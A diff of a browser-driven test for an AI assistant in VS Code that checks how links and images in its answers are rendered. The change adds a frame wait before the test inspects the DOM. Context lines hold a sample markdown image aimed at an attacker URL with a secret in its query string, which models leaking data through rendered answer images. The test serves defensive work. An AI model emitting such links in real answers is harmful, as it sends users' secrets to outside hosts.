@@ -48,6 +48,9 @@ describe('links in answers in a real VS Code', () => {
       `![diagram](${attackerUrl}/pixel.png?d=SECRET-IMAGE)\n`,
     ]));
     await askComet('Where are the docs?');
+    // What the user sees once drawn: a finished block below the fold skips rendering (content-visibility), and
+    // innerText leaves it out until the chat has scrolled to its end on the next frame.
+    await evaluate('new Promise(resolve => requestAnimationFrame(() => requestAnimationFrame(resolve)))');
     const shown = await evaluate<{ links: Array<[string, string | null]>; hrefs: number; text: string }>(`(() => {
       const body = Array.from(document.querySelectorAll('[data-role=assistant]')).at(-1);
       return {
